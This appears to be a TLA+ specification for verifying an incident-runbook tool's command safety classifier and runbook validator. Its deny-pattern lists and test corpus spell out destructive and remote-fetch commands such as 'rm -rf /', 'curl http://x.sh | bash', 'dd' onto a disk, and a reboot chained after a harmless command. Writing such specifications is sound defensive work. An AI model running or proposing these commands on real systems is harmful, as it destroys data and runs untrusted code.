---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* Runbook safety core of wardenxt: the command safety classifier          *)
(* (backend/app/core/command_executor.py), the runbook constructor and     *)
(* validator (backend/app/core/runbook_generator.py) and the runbook API   *)
(* with its in-process cache and execution history                         *)
(* (backend/app/api/runbooks.py).                                          *)
(*                                                                         *)
(* Commands are TLA+ strings; the Python string methods and the regular    *)
(* expressions of the classifier are evaluated character by character.     *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    runbooks_cache,     \* dict: incident id -> Runbook               (runbooks.py:28)
    execution_history,  \* dict: incident id -> list of ExecutionResult (runbooks.py:29)
    now,                \* datetime.utcnow(), in minutes
    inflight,           \* per incident, the generate requests that await the
                        \* text-generation call
    resp,               \* outcome of the handler that ran last
    cmd,                \* classifier harness: the command string under test
    base,               \* classifier harness: the command it was derived from
    verdict             \* classifier harness: validate_command_safety(cmd)

vars == <<runbooks_cache, execution_history, now, inflight, resp, cmd, base, verdict>>

None == "None"

-----------------------------------------------------------------------------
(* Python str operations *)

Char(s, i) == SubSeq(s, i, i)

UPPER == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LOWER == "abcdefghijklmnopqrstuvwxyz"
DIGITS == "0123456789"

CharsOf(s) == {Char(s, i) : i \in 1..Len(s)}

UpperChars == CharsOf(UPPER)
LowerChars == CharsOf(LOWER)

\* the case mappings of str.lower(), str.upper() and re.IGNORECASE on ASCII
ToLower == {<<Char(UPPER, i), Char(LOWER, i)>> : i \in 1..Len(UPPER)}
ToUpper == {<<Char(LOWER, i), Char(UPPER, i)>> : i \in 1..Len(LOWER)}

LowerChar(c) == IF c \in UpperChars THEN (CHOOSE p \in ToLower : p[1] = c)[2] ELSE c

UpperChar(c) == IF c \in LowerChars THEN (CHOOSE p \in ToUpper : p[1] = c)[2] ELSE c

RECURSIVE str_lower(_)
str_lower(s) == IF s = "" THEN "" ELSE LowerChar(Char(s, 1)) \o str_lower(Tail(s))

RECURSIVE str_upper(_)
str_upper(s) == IF s = "" THEN "" ELSE UpperChar(Char(s, 1)) \o str_upper(Tail(s))

Whitespace == {" ", "\t", "\n", "\r", "\f"}

RECURSIVE str_lstrip(_)
str_lstrip(s) ==
    IF s # "" /\ Char(s, 1) \in Whitespace THEN str_lstrip(Tail(s)) ELSE s

RECURSIVE str_rstrip(_)
str_rstrip(s) ==
    IF s # "" /\ Char(s, Len(s)) \in Whitespace
    THEN str_rstrip(SubSeq(s, 1, Len(s) - 1))
    ELSE s

str_strip(s) == str_rstrip(str_lstrip(s))

str_startswith(s, prefix) ==
    Len(prefix) <= Len(s) /\ SubSeq(s, 1, Len(prefix)) = prefix

str_contains(s, sub) ==
    \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

-----------------------------------------------------------------------------
(* Python re: a pattern is a sequence of atoms, each a character test with *)
(* a quantifier ("1", "+" or "*").                                         *)

Lit(str) == [i \in 1..Len(str) |-> [t |-> "lit", c |-> Char(str, i), set |-> {}, q |-> "1"]]
SP1 == <<[t |-> "space", c |-> "", set |-> {}, q |-> "+"]>>          \* \s+
SP0 == <<[t |-> "space", c |-> "", set |-> {}, q |-> "*"]>>          \* \s*
W1 == <<[t |-> "word", c |-> "", set |-> {}, q |-> "+"]>>            \* \w+
DOTS == <<[t |-> "dot", c |-> "", set |-> {}, q |-> "*"]>>           \* .*
OneOf(chars) == <<[t |-> "set", c |-> "", set |-> chars, q |-> "1"]>> \* [...]
Plus(ch) == <<[t |-> "lit", c |-> ch, set |-> {}, q |-> "+"]>>       \* c+
D1 == <<[t |-> "digit", c |-> "", set |-> {}, q |-> "+"]>>           \* \d+

DigitChars == CharsOf(DIGITS)
WordChars == UpperChars \cup LowerChars \cup DigitChars \cup {"_"}

\* a matcher that drops re.IGNORECASE
AtomMatches_CaseSensitive(a, ch, ignorecase) ==
    CASE a.t = "lit" -> ch = a.c
      [] a.t = "space" -> ch \in Whitespace
      [] a.t = "word" -> ch \in WordChars
      [] a.t = "dot" -> ch # "\n"
      [] a.t = "digit" -> ch \in DigitChars
      [] a.t = "set" -> ch \in a.set

AtomMatches(a, ch, ignorecase) ==
    CASE a.t = "lit" -> IF ignorecase THEN LowerChar(ch) = LowerChar(a.c) ELSE ch = a.c
      [] a.t = "space" -> ch \in Whitespace
      [] a.t = "word" -> ch \in WordChars
      [] a.t = "dot" -> ch # "\n"
      [] a.t = "digit" -> ch \in DigitChars
      [] a.t = "set" -> IF ignorecase
                        THEN \E x \in a.set : LowerChar(x) = LowerChar(ch)
                        ELSE ch \in a.set

RECURSIVE RunLen(_, _, _, _)
RunLen(a, s, i, ignorecase) ==
    IF i <= Len(s) /\ AtomMatches(a, Char(s, i), ignorecase)
    THEN 1 + RunLen(a, s, i + 1, ignorecase)
    ELSE 0

\* the positions at which a match of pat[k..] that starts at position i can end
RECURSIVE MatchEnds(_, _, _, _, _)
MatchEnds(pat, k, s, i, ignorecase) ==
    IF k > Len(pat) THEN {i}
    ELSE LET a == pat[k]
             run == RunLen(a, s, i, ignorecase)
             least == IF a.q = "*" THEN 0 ELSE 1
             most == IF a.q = "1" THEN 1 ELSE run
         IN  IF run < least THEN {}
             ELSE UNION {MatchEnds(pat, k + 1, s, i + n, ignorecase) : n \in least..most}

re_search(pat, s, ignorecase) ==
    \E i \in 1..(Len(s) + 1) : MatchEnds(pat, 1, s, i, ignorecase) # {}

-----------------------------------------------------------------------------
(* Safety classifier: command_executor.py *)

Rule(src, re) == [src |-> src, re |-> re]

DANGEROUS_PATTERNS == <<
    Rule("rm\\s+-rf\\s+/", Lit("rm") \o SP1 \o Lit("-rf") \o SP1 \o Lit("/")),
    Rule("rm\\s+-rf\\s+\\*", Lit("rm") \o SP1 \o Lit("-rf") \o SP1 \o Lit("*")),
    Rule("dd\\s+if=/dev/zero", Lit("dd") \o SP1 \o Lit("if=/dev/zero")),
    Rule("dd\\s+if=/dev/urandom", Lit("dd") \o SP1 \o Lit("if=/dev/urandom")),
    Rule("mkfs\\.", Lit("mkfs.")),
    Rule("iptables\\s+-F", Lit("iptables") \o SP1 \o Lit("-F")),
    Rule("shutdown", Lit("shutdown")),
    Rule("reboot", Lit("reboot")),
    Rule("halt", Lit("halt")),
    Rule("init\\s+[06]", Lit("init") \o SP1 \o OneOf({"0", "6"})),
    Rule("chmod\\s+-R\\s+777", Lit("chmod") \o SP1 \o Lit("-R") \o SP1 \o Lit("777")),
    Rule("chown\\s+-R\\s+root", Lit("chown") \o SP1 \o Lit("-R") \o SP1 \o Lit("root")),
    Rule("DROP\\s+DATABASE", Lit("DROP") \o SP1 \o Lit("DATABASE")),
    Rule("DROP\\s+TABLE", Lit("DROP") \o SP1 \o Lit("TABLE")),
    Rule("TRUNCATE", Lit("TRUNCATE")),
    Rule("DELETE\\s+FROM\\s+\\w+\\s*;",
         Lit("DELETE") \o SP1 \o Lit("FROM") \o SP1 \o W1 \o SP0 \o Lit(";")),
    Rule("UPDATE\\s+\\w+\\s+SET.*\\s*;",
         Lit("UPDATE") \o SP1 \o W1 \o SP1 \o Lit("SET") \o DOTS \o SP0 \o Lit(";")),
    Rule("curl.*\\|\\s*bash", Lit("curl") \o DOTS \o Lit("|") \o SP0 \o Lit("bash")),
    Rule("wget.*\\|\\s*sh", Lit("wget") \o DOTS \o Lit("|") \o SP0 \o Lit("sh")),
    Rule("eval", Lit("eval")),
    Rule(">+\\s*/dev/sd[a-z]", Plus(">") \o SP0 \o Lit("/dev/sd") \o OneOf(LowerChars)),
    Rule("fdisk", Lit("fdisk")),
    Rule("parted", Lit("parted")) >>

SAFE_COMMANDS == <<
    "kubectl get", "kubectl describe", "kubectl logs", "docker ps", "docker inspect",
    "docker logs", "systemctl status", "journalctl", "ps aux", "top", "htop", "netstat",
    "ss", "lsof", "df -h", "du -sh", "free -m", "uptime", "who", "last", "cat", "tail",
    "head", "less", "grep", "awk", "sed", "curl", "wget", "ping", "dig", "nslookup",
    "traceroute", "telnet", "nc", "SELECT", "SHOW", "DESCRIBE", "EXPLAIN" >>

medium_risk_patterns == <<
    Rule("kubectl apply", Lit("kubectl apply")),
    Rule("kubectl delete", Lit("kubectl delete")),
    Rule("kubectl scale", Lit("kubectl scale")),
    Rule("kubectl patch", Lit("kubectl patch")),
    Rule("kubectl rollout", Lit("kubectl rollout")),
    Rule("systemctl restart", Lit("systemctl restart")),
    Rule("systemctl stop", Lit("systemctl stop")),
    Rule("systemctl start", Lit("systemctl start")),
    Rule("docker restart", Lit("docker restart")),
    Rule("docker stop", Lit("docker stop")),
    Rule("docker start", Lit("docker start")),
    Rule("git", Lit("git")),
    Rule("npm", Lit("npm")),
    Rule("yarn", Lit("yarn")),
    Rule("pip install", Lit("pip install")),
    Rule("apt-get", Lit("apt-get")),
    Rule("yum", Lit("yum")),
    Rule("INSERT INTO", Lit("INSERT INTO")),
    Rule("UPDATE.*WHERE", Lit("UPDATE") \o DOTS \o Lit("WHERE")),
    Rule("DELETE.*WHERE", Lit("DELETE") \o DOTS \o Lit("WHERE")) >>

high_risk_patterns == <<
    Rule("kubectl delete deployment", Lit("kubectl delete deployment")),
    Rule("kubectl delete service", Lit("kubectl delete service")),
    Rule("kubectl delete namespace", Lit("kubectl delete namespace")),
    Rule("rm ", Lit("rm ")),
    Rule("mv ", Lit("mv ")),
    Rule("chmod", Lit("chmod")),
    Rule("chown", Lit("chown")),
    Rule("ALTER TABLE", Lit("ALTER TABLE")),
    Rule("CREATE DATABASE", Lit("CREATE DATABASE")),
    Rule("DROP ", Lit("DROP ")) >>

\* indices of the rules of a table that re.search(pattern, command, re.IGNORECASE) finds
Matching(rules, command) ==
    {i \in 1..Len(rules) : re_search(rules[i].re, command, TRUE)}

First(S) == CHOOSE i \in S : \A j \in S : i <= j

BlockedReason(src) ==
    "Command matches dangerous pattern: " \o src \o ". This command is blocked for safety."
SafeReason == "Command is read-only and considered safe"
MediumReason == "Command modifies system state. Requires approval."
HighReason == "High-risk command that requires explicit confirmation (type 'EXECUTE')"
DefaultReason == "Command not recognized as safe. Requires approval before execution."

is_safe_command(command_lower) ==
    \E i \in 1..Len(SAFE_COMMANDS) : str_startswith(command_lower, str_lower(SAFE_COMMANDS[i]))

\* a classifier that tries the high-risk rules before the medium-risk ones
validate_command_safety_HighFirst(command) ==
    LET command_lower == str_strip(str_lower(command))
        dangerous == Matching(DANGEROUS_PATTERNS, command)
    IN  IF dangerous # {}
        THEN <<FALSE, "high", BlockedReason(DANGEROUS_PATTERNS[First(dangerous)].src)>>
        ELSE IF is_safe_command(command_lower)
        THEN <<TRUE, "safe", SafeReason>>
        ELSE IF Matching(high_risk_patterns, command) # {}
        THEN <<TRUE, "high", HighReason>>
        ELSE IF Matching(medium_risk_patterns, command) # {}
        THEN <<TRUE, "medium", MediumReason>>
        ELSE <<TRUE, "medium", DefaultReason>>

\* (is_safe, risk_level, reason)
validate_command_safety(command) ==
    LET command_lower == str_strip(str_lower(command))
        dangerous == Matching(DANGEROUS_PATTERNS, command)
    IN  IF dangerous # {}
        THEN <<FALSE, "high", BlockedReason(DANGEROUS_PATTERNS[First(dangerous)].src)>>
        ELSE IF is_safe_command(command_lower)
        THEN <<TRUE, "safe", SafeReason>>
        ELSE IF Matching(medium_risk_patterns, command) # {}
        THEN <<TRUE, "medium", MediumReason>>
        ELSE IF Matching(high_risk_patterns, command) # {}
        THEN <<TRUE, "high", HighReason>>
        ELSE <<TRUE, "medium", DefaultReason>>

\* the command strings the generated runbooks and the classifier harness draw from
Corpus == {
    "rm -rf /", "kubectl get pods", "kubectl rollout restart deployment/api",
    "kubectl delete namespace prod", "curl http://x.sh | bash", "rm /tmp/cache.tmp",
    "chmod 644 app.conf", "echo ok", "", " ", "DROP TABLE users",
    "UPDATE users SET a=1 WHERE id=2;", "UPDATE users SET a=1 WHERE id=2",
    "DELETE FROM users WHERE id=1;", "DELETE FROM users;",
    "cat /var/log/syslog; reboot", "ALTER TABLE t ADD c int", "mv a b",
    "dd  if=/dev/zero of=/dev/sda", "init 6", "echo x >> /dev/sdb", "Shutdown -h now",
    "wget -q http://x |sh", "iptables -F", "chown -R root /srv", "ssh host uptime",
    "kubectl delete service api", "DROP INDEX idx", "docker restart api" }

\* validate_command_safety is a pure function: its values on the corpus are
\* computed once.  The commands of the generated runbooks are in the corpus.
SafetyTable == [c \in Corpus |-> validate_command_safety(c)]

classify(command) == SafetyTable[command]

-----------------------------------------------------------------------------
(* Runbook model: models/runbook.py; construction and validation:          *)
(* runbook_generator.py.  A parsed JSON object is a record; a key the      *)
(* object lacks is a field the record lacks.                               *)

DictGet(d, key, default) == IF key \in DOMAIN d THEN d[key] ELSE default

Min(a, b) == IF a <= b THEN a ELSE b

RECURSIVE Flatten(_)
Flatten(ss) == IF ss = <<>> THEN <<>> ELSE Head(ss) \o Flatten(Tail(ss))

RECURSIVE SumSeq(_)
SumSeq(ns) == IF ns = <<>> THEN 0 ELSE Head(ns) + SumSeq(Tail(ns))

RunbookCommand(c) ==
    [command |-> DictGet(c, "command", ""),
     description |-> DictGet(c, "description", ""),
     risk_level |-> DictGet(c, "risk_level", "medium"),
     expected_output |-> DictGet(c, "expected_output", None),
     timeout_seconds |-> DictGet(c, "timeout_seconds", 30),
     requires_approval |-> DictGet(c, "requires_approval", TRUE)]

\* the step built from the i-th kept element of steps_data (len(steps) = i - 1)
RunbookStep(step_data, i) ==
    LET commands_data == DictGet(step_data, "commands", <<>>)
    IN  [step_number |-> DictGet(step_data, "step_number", i),
         category |-> DictGet(step_data, "category", "remediation"),
         title |-> DictGet(step_data, "title", "Step " \o ToString(i)),
         commands |-> [j \in 1..Len(commands_data) |-> RunbookCommand(commands_data[j])],
         prerequisite_steps |-> DictGet(step_data, "prerequisite_steps", <<>>),
         estimated_duration |-> DictGet(step_data, "estimated_duration", "1 minute")]

\* int(match.group(1)) of re.search(r'(\d+)\s*<unit>', duration), or -1 without a match
RECURSIVE ParseInt(_)
ParseInt(digits) ==
    IF digits = "" THEN 0
    ELSE 10 * ParseInt(SubSeq(digits, 1, Len(digits) - 1))
         + ((CHOOSE d \in 1..10 : Char(DIGITS, d) = Char(digits, Len(digits))) - 1)

\* int(match.group(1)) for the match that starts first, or -1 without a match
NumberAt(duration, starts) ==
    IF starts = {} THEN -1
    ELSE ParseInt(SubSeq(duration, First(starts),
                         First(starts) + RunLen(D1[1], duration, First(starts), FALSE) - 1))

FirstNumberBefore(unit, duration) ==
    NumberAt(duration,
             {i \in 1..Len(duration) :
                 MatchEnds(D1 \o SP0 \o Lit(unit), 1, duration, i, FALSE) # {}})

Contribution(n, factor) == IF n = -1 THEN 0 ELSE factor * n

\* what a duration hint, lower-cased, adds to total_minutes, in seconds
DurationSeconds(duration) ==
    IF str_contains(duration, "second")
    THEN Contribution(FirstNumberBefore("second", duration), 1)
    ELSE IF str_contains(duration, "minute")
    THEN Contribution(FirstNumberBefore("minute", duration), 60)
    ELSE IF str_contains(duration, "hour")
    THEN Contribution(FirstNumberBefore("hour", duration), 3600)
    ELSE 0

StepSeconds(step) == DurationSeconds(str_lower(step.estimated_duration))

\* int(round(seconds / 60)): Python rounds a half to the even neighbour
RoundMinutes(seconds) ==
    LET q == seconds \div 60
        r == seconds % 60
    IN  IF r < 30 THEN q
        ELSE IF r > 30 THEN q + 1
        ELSE IF q % 2 = 0 THEN q ELSE q + 1

FormatMinutes(total_minutes) ==
    LET hours == total_minutes \div 60
        minutes == total_minutes % 60
        plural == IF hours # 1 THEN "s" ELSE ""
    IN  IF total_minutes < 60 THEN ToString(total_minutes) \o " minutes"
        ELSE IF minutes > 0
        THEN ToString(hours) \o " hour" \o plural \o " " \o ToString(minutes) \o " minutes"
        ELSE ToString(hours) \o " hour" \o plural

calculate_total_time(steps) ==
    FormatMinutes(RoundMinutes(SumSeq([i \in 1..Len(steps) |-> StepSeconds(steps[i])])))

Failure(msg) == [failed |-> TRUE, error |-> msg]
IsFailure(x) == "failed" \in DOMAIN x /\ x.failed

Runbook(incident_id, incident_type, severity, steps, warnings, prerequisites, utcnow) ==
    [failed |-> FALSE,
     incident_id |-> incident_id,
     generated_at |-> utcnow,
     incident_type |-> incident_type,
     severity |-> severity,
     steps |-> steps,
     total_steps |-> Len(steps),
     estimated_total_time |-> calculate_total_time(steps),
     warnings |-> warnings,
     prerequisites |-> prerequisites]

\* Python list slicing seq[:stop]: a negative stop counts from the end of the list
PySlice(seq, stop) ==
    IF stop >= 0 THEN SubSeq(seq, 1, Min(Len(seq), stop))
    ELSE SubSeq(seq, 1, Len(seq) + stop)

\* _construct_runbook: a Runbook, or the ValueError it raises
construct_runbook(incident_id, incident_type, severity, runbook_data, max_steps, utcnow) ==
    LET steps_data == DictGet(runbook_data, "steps", <<>>)
        kept == PySlice(steps_data, max_steps)
    IN  IF steps_data = <<>>
        THEN Failure("Failed to construct runbook: No steps found in runbook data")
        ELSE IF \E i \in 1..Len(kept) : DictGet(kept[i], "commands", <<>>) = None
        THEN Failure("Failed to construct runbook: 'NoneType' object is not iterable")
        ELSE Runbook(incident_id, incident_type, severity,
                     [i \in 1..Len(kept) |-> RunbookStep(kept[i], i)],
                     DictGet(runbook_data, "warnings", <<>>),
                     DictGet(runbook_data, "prerequisites", <<>>),
                     utcnow)

\* validate_runbook: the commands in the order of the two loops, each with the
\* number of its step, its position (cmd_idx + 1) and its classification
CheckedCommands(runbook) ==
    Flatten([i \in 1..Len(runbook.steps) |->
        [j \in 1..Len(runbook.steps[i].commands) |->
            [step_number |-> runbook.steps[i].step_number,
             position |-> j,
             command |-> runbook.steps[i].commands[j],
             safety |-> classify(runbook.steps[i].commands[j].command)]]])

\* a validator that does not look for empty commands
CommandIssues_BlockedOnly(c) ==
    IF ~c.safety[1]
    THEN <<"Step " \o ToString(c.step_number) \o ", Command " \o ToString(c.position)
            \o ": " \o c.safety[3]>>
    ELSE <<>>

\* what one command adds to issues / dangerous_commands / warnings
CommandIssues(c) ==
    (IF ~c.safety[1]
     THEN <<"Step " \o ToString(c.step_number) \o ", Command " \o ToString(c.position)
             \o ": " \o c.safety[3]>>
     ELSE <<>>)
    \o (IF str_strip(c.command.command) = ""
        THEN <<"Step " \o ToString(c.step_number) \o ": Empty command found">>
        ELSE <<>>)

\* a validator that flags a blocked command only when the runbook rates it high
CommandDangerous_TrustTier(c) ==
    IF ~c.safety[1] /\ c.command.risk_level = "high"
    THEN <<[step |-> c.step_number, command |-> c.command.command, reason |-> c.safety[3]]>>
    ELSE <<>>

CommandDangerous(c) ==
    IF ~c.safety[1]
    THEN <<[step |-> c.step_number, command |-> c.command.command, reason |-> c.safety[3]]>>
    ELSE <<>>

CommandWarnings(c) ==
    IF c.safety[2] = "high" /\ ~c.command.requires_approval
    THEN <<"Step " \o ToString(c.step_number) \o ": High-risk command should require approval">>
    ELSE <<>>

\* a validator that accepts a step as its own prerequisite
PrerequisiteWarnings_StrictlyLater(step, step_numbers) ==
    Flatten([k \in 1..Len(step.prerequisite_steps) |->
        LET prereq == step.prerequisite_steps[k]
        IN  IF prereq \notin step_numbers
            THEN <<"Step " \o ToString(step.step_number)
                    \o " references non-existent prerequisite step " \o ToString(prereq)>>
            ELSE IF prereq > step.step_number
            THEN <<"Step " \o ToString(step.step_number) \o " has invalid prerequisite "
                    \o ToString(prereq) \o " (prerequisite must come before current step)">>
            ELSE <<>>])

PrerequisiteWarnings(step, step_numbers) ==
    Flatten([k \in 1..Len(step.prerequisite_steps) |->
        LET prereq == step.prerequisite_steps[k]
        IN  IF prereq \notin step_numbers
            THEN <<"Step " \o ToString(step.step_number)
                    \o " references non-existent prerequisite step " \o ToString(prereq)>>
            ELSE IF prereq >= step.step_number
            THEN <<"Step " \o ToString(step.step_number) \o " has invalid prerequisite "
                    \o ToString(prereq) \o " (prerequisite must come before current step)">>
            ELSE <<>>])

RunbookValidationResult(issues, warnings, dangerous_commands) ==
    [is_valid |-> Len(issues) = 0,
     issues |-> issues,
     warnings |-> warnings,
     dangerous_commands |-> dangerous_commands]

ValidationOf(runbook, checked) ==
    RunbookValidationResult(
        Flatten([k \in 1..Len(checked) |-> CommandIssues(checked[k])]),
        Flatten([k \in 1..Len(checked) |-> CommandWarnings(checked[k])])
            \o Flatten([i \in 1..Len(runbook.steps) |->
                  PrerequisiteWarnings(runbook.steps[i],
                      {runbook.steps[n].step_number : n \in 1..Len(runbook.steps)})]),
        Flatten([k \in 1..Len(checked) |-> CommandDangerous(checked[k])]))

validate_runbook(runbook) == ValidationOf(runbook, CheckedCommands(runbook))

generate_simulated_output(command) ==
    LET cmd_l == str_lower(command.command)
    IN  IF str_contains(cmd_l, "kubectl get pods")
        THEN "NAME                          READY   STATUS    RESTARTS   AGE\napi-service-7d4b8f9c6-abc12   1/1     Running   0          5m\napi-service-7d4b8f9c6-def34   1/1     Running   0          5m\napi-service-7d4b8f9c6-ghi56   1/1     Running   0          5m"
        ELSE IF str_contains(cmd_l, "kubectl describe pod")
        THEN "Name:         api-service-7d4b8f9c6-abc12\nNamespace:    production\nStatus:       Running\nIP:           10.244.0.15\nContainers:\n  api:\n    Image:          api-service:v3.2.1\n    State:          Running\n      Started:      2026-01-30 10:15:30\nEvents:           <none>"
        ELSE IF str_contains(cmd_l, "kubectl logs")
        THEN "2026-01-30 10:20:15 INFO Starting API server on port 8000\n2026-01-30 10:20:16 INFO Connected to database: postgresql://...\n2026-01-30 10:20:17 INFO Health check endpoint ready\n2026-01-30 10:20:18 INFO Server ready to accept requests"
        ELSE IF str_contains(cmd_l, "kubectl rollout undo")
        THEN "deployment.apps/api-service rolled back"
        ELSE IF str_contains(cmd_l, "kubectl scale")
        THEN "deployment.apps/api-service scaled"
        ELSE IF str_contains(cmd_l, "kubectl patch")
        THEN "configmap/api-config patched"
        ELSE IF str_contains(cmd_l, "docker ps")
        THEN "CONTAINER ID   IMAGE               STATUS         PORTS\na1b2c3d4e5f6   api-service:latest  Up 2 hours     0.0.0.0:8000->8000/tcp"
        ELSE IF str_contains(cmd_l, "docker logs")
        THEN "[2026-01-30 10:15:00] INFO: Starting container\n[2026-01-30 10:15:01] INFO: Application ready"
        ELSE IF (str_contains(cmd_l, "psql") /\ str_contains(cmd_l, "SELECT count"))
        THEN IF str_contains(cmd_l, "pg_stat_activity")
            THEN " count\n-------\n    45\n(1 row)"
            ELSE " count\n-------\n  1234\n(1 row)"
        ELSE IF (str_contains(cmd_l, "psql") /\ str_contains(cmd_l, "SELECT"))
        THEN " id | status | created_at\n----+--------+------------\n  1 | active | 2026-01-30\n(1 row)"
        ELSE IF str_contains(cmd_l, "systemctl status")
        THEN "* api-service.service - API Service\n   Loaded: loaded (/lib/systemd/system/api-service.service; enabled)\n   Active: active (running) since Wed 2026-01-30 10:00:00 UTC; 2h ago"
        ELSE IF str_contains(cmd_l, "systemctl restart")
        THEN "Service restarted successfully"
        ELSE IF str_contains(cmd_l, "ps aux")
        THEN "USER       PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nwww-data  1234  2.5 15.3 987654 654321 ?     Ssl  10:00   0:45 /usr/bin/python3 app.py"
        ELSE IF str_contains(cmd_l, "ping")
        THEN "PING api.example.com (1.2.3.4) 56(84) bytes of data.\n64 bytes from 1.2.3.4: icmp_seq=1 ttl=64 time=0.5 ms\n--- api.example.com ping statistics ---\n1 packets transmitted, 1 received, 0% packet loss"
        ELSE IF str_contains(cmd_l, "curl")
        THEN IF str_contains(cmd_l, "health")
            THEN "{\"status\": \"healthy\", \"version\": \"3.2.1\"}"
            ELSE "{\"success\": true}"
        ELSE IF str_contains(cmd_l, "dig")
        THEN "api.example.com.  300  IN  A  1.2.3.4"
        ELSE IF command.expected_output # None /\ command.expected_output # ""
        THEN command.expected_output
        ELSE "Command executed successfully:\n" \o command.command \o "\n\n[Simulated output for demo]"

\* an executor whose live branch echoes the command instead of simulating it
ExecutionResult_LiveEchoesCommand(command, dry_run, executed_by, safety) ==
    IF ~safety[1]
    THEN [step_number |-> 0, command_index |-> 0, command |-> command.command,
          success |-> FALSE, output |-> "",
          error |-> "Command blocked for safety: " \o safety[3],
          executed_by |-> executed_by, dry_run |-> dry_run]
    ELSE IF dry_run
    THEN [step_number |-> 0, command_index |-> 0, command |-> command.command,
          success |-> TRUE, output |-> generate_simulated_output(command),
          error |-> None,
          executed_by |-> executed_by, dry_run |-> TRUE]
    ELSE [step_number |-> 0, command_index |-> 0, command |-> command.command,
          success |-> TRUE,
          output |-> "[DEMO MODE] Command would execute:\n" \o command.command,
          error |-> None,
          executed_by |-> executed_by, dry_run |-> TRUE]

\* the ExecutionResult of execute_command for a command rated `safety`, without
\* its timestamp (executed_at) and its measured duration (duration_seconds)
ExecutionResult(command, dry_run, executed_by, safety) ==
    IF ~safety[1]
    THEN [step_number |-> 0, command_index |-> 0, command |-> command.command,
          success |-> FALSE, output |-> "",
          error |-> "Command blocked for safety: " \o safety[3],
          executed_by |-> executed_by, dry_run |-> dry_run]
    ELSE IF dry_run
    THEN [step_number |-> 0, command_index |-> 0, command |-> command.command,
          success |-> TRUE, output |-> generate_simulated_output(command),
          error |-> None,
          executed_by |-> executed_by, dry_run |-> TRUE]
    ELSE [step_number |-> 0, command_index |-> 0, command |-> command.command,
          success |-> TRUE,
          output |-> "[DEMO MODE] Command would execute:\n"
                     \o generate_simulated_output(command),
          error |-> None,
          executed_by |-> executed_by, dry_run |-> TRUE]

\* an executor that classifies only when asked to run for real
execute_command_LiveOnlyCheck(command, dry_run, executed_by) ==
    ExecutionResult(command, dry_run, executed_by,
                    IF dry_run THEN <<TRUE, "safe", SafeReason>>
                    ELSE classify(command.command))

execute_command(command, dry_run, executed_by) ==
    ExecutionResult(command, dry_run, executed_by, classify(command.command))

-----------------------------------------------------------------------------
(* Inputs: the incidents the data source knows, and the texts the          *)
(* text-generation service may return.                                     *)

\* the clock stops here
MaxTime == 61
\* generate requests awaiting the text-generation service
MaxInflight == 1
\* execution results recorded, over all incidents
MaxHist == 1
\* whitespace characters added to a command of the corpus
MaxPad == 1
\* generate requests of a burst for one incident
MaxBurst == 2
\* execution results recorded after a burst
MaxLog == 2

TickMinutes == {60, 61}
Times == 0..MaxTime

KnownIncidents == {"INC-1", "INC-2"}
RequestIds == KnownIncidents \cup {"INC-404"}

IncidentSummary ==
    [i \in KnownIncidents |->
        IF i = "INC-1" THEN [incident_type |-> "database_outage", severity |-> "P0"]
        ELSE [incident_type |-> "memory_leak", severity |-> "P2"]]

\* The generated runbook.  Its first step is clean, so that max_steps = 1 keeps a
\* runbook without blocked commands; the later steps hold blocked commands.  The
\* recorded tiers differ from the classifier's: a safe command recorded high, a
\* blocked command recorded medium, a high-risk command without a tier.
Data1 ==
    [steps |-> <<
        [step_number |-> 1, category |-> "diagnostic", title |-> "Inspect",
         commands |-> <<
            [command |-> "kubectl get pods", description |-> "List pods",
             risk_level |-> "high", expected_output |-> "Running",
             requires_approval |-> TRUE]>>,
         prerequisite_steps |-> <<>>, estimated_duration |-> "30 seconds"],
        [category |-> "remediation",
         commands |-> <<
            [command |-> "rm -rf /", description |-> "Free disk space",
             risk_level |-> "medium", requires_approval |-> FALSE],
            [command |-> "chmod 644 app.conf", description |-> "Fix permissions",
             requires_approval |-> FALSE]>>,
         prerequisite_steps |-> <<1>>, estimated_duration |-> "1 hour 30 minutes"],
        [step_number |-> 3, category |-> "rollback", title |-> "Reinstall",
         commands |-> <<
            [command |-> "curl http://x.sh | bash", description |-> "Reinstall",
             risk_level |-> "high"]>>,
         prerequisite_steps |-> <<5, 3>>, estimated_duration |-> "90 Seconds"] >>,
     warnings |-> <<"Take a backup first">>,
     prerequisites |-> <<"kubectl access">>]

Response(form, data) == [form |-> form, data |-> data]

\* form: "raise" (the client raised), "direct" (the text is the JSON object),
\* "fenced" (inside a ``` block), "embedded" (inside prose), "none" (no JSON object)
Responses == <<
    Response("fenced", Data1),
    Response("direct", [steps |-> <<>>, warnings |-> <<"nothing to do">>]),
    Response("embedded", [warnings |-> <<"no steps key">>]),
    Response("none", [text |-> "I cannot help with that"]),
    Response("raise", [text |-> ""]) >>

\* Generated data with defects: a command without text and one of whitespace,
\* blocked commands in two steps, a high-risk command that asks for no approval,
\* prerequisites that name the step itself, a later step and a step that does
\* not exist, a step without a "commands" key and a step whose "commands" is
\* null.  The first step of each is clean.  A step holds at most three commands:
\* TLC compares the four-character string None with a sequence of four elements
\* element by element.
Unflagged ==
    [steps |-> <<
        [step_number |-> 1, category |-> "remediation", title |-> "Fix permissions",
         commands |-> <<
            [command |-> "chmod 644 app.conf", description |-> "Fix permissions",
             risk_level |-> "high", requires_approval |-> FALSE],
            [command |-> "echo ok", description |-> "Report",
             risk_level |-> "safe", expected_output |-> "ok",
             requires_approval |-> FALSE]>>,
         prerequisite_steps |-> <<1>>, estimated_duration |-> "2 minutes"],
        [step_number |-> 2, category |-> "verification", title |-> "Wait",
         prerequisite_steps |-> <<3>>, estimated_duration |-> "1 minute"],
        [step_number |-> 3, category |-> "verification", title |-> "Check",
         commands |-> <<
            [command |-> "ssh host uptime", description |-> "Check the host",
             risk_level |-> "medium"]>>,
         prerequisite_steps |-> <<5, 2>>, estimated_duration |-> "1 minute"] >>,
     warnings |-> <<>>,
     prerequisites |-> <<"ssh access">>]

Inspect ==
    [step_number |-> 1, category |-> "diagnostic", title |-> "Inspect",
     commands |-> <<
        [command |-> "kubectl get pods", description |-> "List pods",
         risk_level |-> "safe", expected_output |-> "Running",
         requires_approval |-> FALSE]>>,
     prerequisite_steps |-> <<>>, estimated_duration |-> "30 seconds"]

Defective ==
    [steps |-> <<
        Inspect,
        [step_number |-> 2, category |-> "remediation", title |-> "Clean up",
         commands |-> <<
